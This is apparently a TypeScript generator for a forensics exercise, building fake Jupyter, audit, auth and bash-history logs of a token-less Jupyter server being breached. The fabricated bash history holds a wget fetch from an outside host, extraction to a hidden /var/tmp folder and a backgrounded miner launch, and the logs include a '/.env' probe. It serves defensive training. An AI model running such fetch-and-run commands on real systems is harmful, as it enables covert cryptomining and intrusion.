/**
 * A Jupyter server that asks for no token: a stranger opens a terminal in it and types. Those who work there open
 * terminals, too.
 */
import { day, hour, minute, plainTime } from './clock.ts';
import { audited, auditNoise, authNoise, type Line, moments, written } from './noise.ts';
import { chance } from './random.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';

const say = (ms: number, level: string, text: string): Line => ({
  ms,
  text: `[${level} ${plainTime(ms)}.${String(ms % 1000).padStart(3, '0')} ServerApp] ${text}`,
});
const user = '5d1c0b6f2a7e4c3f9b8a6e5d4c3b2a10';
const staff = '10.20.0.21';

function terminal(ms: number, from: string, name: number): Line[] {
  return [
    say(ms, 'I', `New terminal with automatic name: ${name}`),
    say(ms + 4, 'D', `200 POST /api/terminals?1762${ms % 1_000_000} (${user}@${from}) 14.21ms`),
    say(ms + 130, 'D', `101 GET /terminals/websocket/${name} (${user}@${from}) 2.10ms`),
  ];
}

function serverNoise(): Line[] {
  const luck = chance(61);
  const asked = [...moments(weekBegins, weekEnds, 60, luck)].map((ms) => {
    if (luck.next() < 0.02)
      return say(ms, 'W', `404 GET /.env (@192.0.2.${100 + luck.below(100)}) 1.22ms referer=None`);
    return luck.pick([
      say(ms, 'D', `200 GET /api/kernels?${ms} (${user}@${staff}) 0.91ms`),
      say(ms, 'D', `200 GET /api/contents/analysis?content=1&${ms} (${user}@${staff}) 3.40ms`),
      say(ms, 'I', 'Saving file at /analysis/lamps.ipynb'),
      say(ms, 'D', 'activity on 3f1b9c54-0d1e-4a5b-8c7d-6e5f4a3b2c1d: status (idle)'),
    ]);
  });
  const begins = [
    say(
      weekBegins + 1_000,
      'W',
      'All authentication is disabled.  Anyone who can connect to this server will be able to run code.',
    ),
    say(weekBegins + 1_020, 'I', 'Jupyter Server 2.14.2 is running at:'),
    say(weekBegins + 1_021, 'I', 'http://notebook02:8888/lab'),
  ];
  const daily = Array.from({ length: 7 }, (_, i) => weekBegins + i * day + 10 * hour);
  return [...begins, ...asked, ...daily.flatMap((ms, i) => terminal(ms, staff, i + (ms > night ? 2 : 1)))];
}

const attack = [
  // Somebody else looked in two days before, and left.
  say(night - 2 * day, 'I', '302 GET / (@192.0.2.190) 0.66ms'),
  say(night - 2 * day + 900, 'D', '200 GET /lab? (@192.0.2.190) 8.02ms'),
  say(night - 1_500, 'I', `302 GET / (@${attacker}) 0.71ms`),
  ...terminal(night, attacker, 5),
];

const server = audited({
  ms: weekBegins + 500,
  serial: 14,
  pid: 1_905,
  parent: 1,
  uid: 1000,
  program: '/usr/bin/python3.12',
  arguments: ['/usr/bin/python3', '/home/lab/.venv/bin/jupyter-lab', '--ip=0.0.0.0', '--ServerApp.token='],
  folder: '/home/lab',
});
const lab = { uid: 1000, folder: '/home/lab' };
const fetching = ['wget', '-q', 'http://203.0.113.9/j.tar.gz', '-O', '/var/tmp/.j.tgz'];
const deeds = [
  ...audited({
    ms: night + 40,
    serial: 94_001,
    pid: 71_001,
    parent: 1_905,
    ...lab,
    program: '/bin/bash',
    arguments: ['bash', '-l'],
  }),
  ...audited({
    ms: night + 21_000,
    serial: 94_002,
    pid: 71_010,
    parent: 71_001,
    ...lab,
    program: '/usr/bin/wget',
    arguments: fetching,
  }),
  ...audited({
    ms: night + 55_000,
    serial: 94_005,
    pid: 71_020,
    parent: 71_001,
    ...lab,
    program: '/var/tmp/.j/python3',
    arguments: ['/var/tmp/.j/python3', ...minerArguments],
  }),
];
const typed = [
  [20_900, fetching.join(' ')],
  [40_000, 'cd /var/tmp && tar xf .j.tgz'],
  [54_900, `/var/tmp/.j/python3 ${minerArguments.join(' ')} &`],
] as const;
const history = typed.map(([after, command]) => `#${Math.floor((night + after) / 1000)}\n${command}\n`).join('');

const log = 'home/lab/jupyter.log';
const audit = 'var/log/audit/audit.log';
const shell = 'home/lab/.bash_history';

export const jupyter: Story = {
  name: 'Jupyter',
  files: {
    [log]: written(serverNoise(), attack),
    [audit]: written(server, auditNoise(weekBegins, weekEnds, 62), deeds),
    [shell]: `#${Math.floor((night - day) / 1000)}\nls -la\n${history}#${Math.floor((night + 6 * hour + minute) / 1000)}\nhtop\n`,
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, 'notebook02', 63)),
  },
  reading: 'exploit',
  begins: night,
  tells: [/Jupyter/, /j\.tar\.gz/],
  requests: [log],
  deeds: [audit, shell],
};
